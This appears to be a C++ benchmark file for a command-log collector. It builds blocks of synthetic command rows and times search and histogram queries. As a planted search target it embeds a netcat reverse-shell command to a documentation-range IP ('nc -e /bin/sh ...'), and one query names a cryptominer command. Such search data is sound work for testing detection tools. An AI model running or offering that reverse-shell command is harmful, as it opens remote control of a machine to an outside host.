#include "tests/bench/block_queries.h"

#include <fcntl.h>
#include <time.h>

#include <algorithm>
#include <cstdio>
#include <memory>
#include <vector>

#include "collector/blocks/block_reader.h"
#include "collector/blocks/block_writer.h"
#include "collector/language/parser.h"
#include "collector/search/row_query.h"
#include "common/files.h"
#include "common/unique_fd.h"
#include "tests/bench/bench_time.h"
#include "tests/bench/block_rows.h"

namespace spoor::collector {

namespace {

constexpr size_t kFirstPage = 50;
constexpr int64_t kHourNs = 3'600'000'000'000;
constexpr const char* kNeedle = "nc -e /bin/sh 203.0.113.66";

double wall_s() {
  timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return static_cast<double>(time.tv_sec) + 1e-9 * static_cast<double>(time.tv_nsec);
}

Query query_of(const char* text) {
  return parse_query(text, {1'795'400'000'000'000'000, absl::UTCTimeZone()}).value();
}

class Blocks {
 public:
  Blocks(const std::string& folder, size_t blocks) : folder_(folder) {
    BlockRows rows(Corpus::zipf);
    for (size_t i = 0; i < blocks; ++i) write(rows, i, i == blocks / 2);
    const double spent = seconds([&] {
      for (size_t i = 0; i < blocks; ++i) {
        readers_.push_back(BlockReader::open(*BytesInFile::open(files_, path(i))).value());
      }
    });
    tell("open_ms", 1e3 * spent, "ms");
    size_t memory = 0;
    for (const BlockReader& reader : readers_) memory += reader.memory_bytes();
    tell("open_memory", static_cast<double>(memory) / 1e6, "MB");
  }
  ~Blocks() {
    for (size_t i = 0; i < readers_.size(); ++i) (void)files_.remove(path(i));
  }

  void forget() const {
    for (size_t i = 0; i < readers_.size(); ++i) {
      const UniqueFd fd(::open(path(i).c_str(), O_RDONLY | O_CLOEXEC));
      CHECK(::posix_fadvise(fd.get(), 0, 0, POSIX_FADV_DONTNEED) == 0);
    }
  }

  // The first page of an answer: block after block, the newest first, until none can have a newer
  // row than those that were found.
  size_t first_page(const Query& query) const {
    std::vector<FoundRow> found;
    for (size_t i = readers_.size(); i-- > 0;) {
      if (found.size() == kFirstPage && newest_ms(readers_[i]) < oldest_ms(found)) break;
      RowQuery made = RowQuery::make(query, readers_[i], outside_).value();
      if (made.finds_nothing()) continue;
      const auto more = made.newest({kFirstPage, {}}, [] { return false; }).value();
      found.insert(found.end(), more.begin(), more.end());
      std::ranges::sort(found, std::greater());
      found.resize(std::min(found.size(), kFirstPage));
    }
    return found.size();
  }

  size_t histogram(const Query& query) const {
    Histogram hours{1'795'300'000'000'000'000, kHourNs, std::vector<uint64_t>(24 * 7)};
    for (const BlockReader& reader : readers_) {
      RowQuery made = RowQuery::make(query, reader, outside_).value();
      if (made.finds_nothing()) continue;
      CHECK(made.count(hours, [] { return false; }).is_ok());
    }
    size_t out = 0;
    for (const uint64_t count : hours.counts) out += count;
    return out;
  }

  static void tell(const std::string& what, double value, const char* unit) {
    std::printf("query.%s %.6g %s\n", what.c_str(), value, unit);
    std::fflush(stdout);
  }

 private:
  std::string path(size_t block) const { return folder_ + "/" + std::to_string(block); }

  void write(BlockRows& rows, size_t number, bool has_needle) {
    BlockWriter writer(EventClass::command);
    while (!writer.is_full()) {
      Row row = rows.next();
      if (has_needle && writer.rows() == kIndexBlockRowsMax / 2) row[Text::command].text = kNeedle;
      writer.add(row);
    }
    CHECK(write_file(files_, path(number), writer.seal()).is_ok());
  }

  static uint64_t newest_ms(const BlockReader& reader) {
    uint64_t out = 0;
    for (size_t page = 0; page < reader.pages(); ++page) {
      out = std::max(out, reader.range(Number::time_ms, page).greatest);
    }
    return out;
  }
  static uint64_t oldest_ms(const std::vector<FoundRow>& found) {
    return static_cast<uint64_t>(found.back().key.time_ns / kNsPerMs);
  }

  const std::string folder_;
  mutable PosixFiles files_;
  std::vector<BlockReader> readers_;
  const Outside outside_;
};

}  // namespace

void bench_queries(const std::string& folder, size_t blocks) {
  const Blocks all(folder, blocks);
  struct Question {
    const char* what;
    const char* query;
    bool is_histogram = false;
  };
  const Question kQuestions[] = {
      {"absent", "cmd:\"xmrig --donate\""},
      {"rare", "cmd:203.0.113.66"},
      {"common", "cmd:config.yaml"},
      {"two_bytes", "cmd:-e"},
      {"users_newest", "user:user59"},
      {"users_as_root", "user:user59 as:root cmd:config.yaml"},
      {"failed", "exit:127 since:2026-11-22T04:00Z until:2026-11-22T04:10Z"},
      {"command_failed", "cmd:config.yaml exit:!=0"},
      {"rare_failed", "cmd:203.0.113.66 exit:!=0"},
      {"histogram", "kind:all", true},
      {"histogram_of_failures", "exit:!=0", true},
      {"histogram_of_a_command", "cmd:config.yaml", true},
  };
  for (const Question& asked : kQuestions) {
    const Query query = query_of(asked.query);
    size_t rows = 0;
    const auto ask = [&] {
      rows = asked.is_histogram ? all.histogram(query) : all.first_page(query);
    };
    all.forget();
    const double begin = wall_s();
    ask();
    const std::string name = asked.what;
    Blocks::tell(name + "_cold_ms", 1e3 * (wall_s() - begin), "ms");
    double warm = 1e9;
    for (int i = 0; i < 2; ++i) warm = std::min(warm, seconds(ask));
    Blocks::tell(name + "_warm_ms", 1e3 * warm, "ms");
    Blocks::tell(name + "_rows", static_cast<double>(rows), "rows");
  }
}

}  // namespace spoor::collector
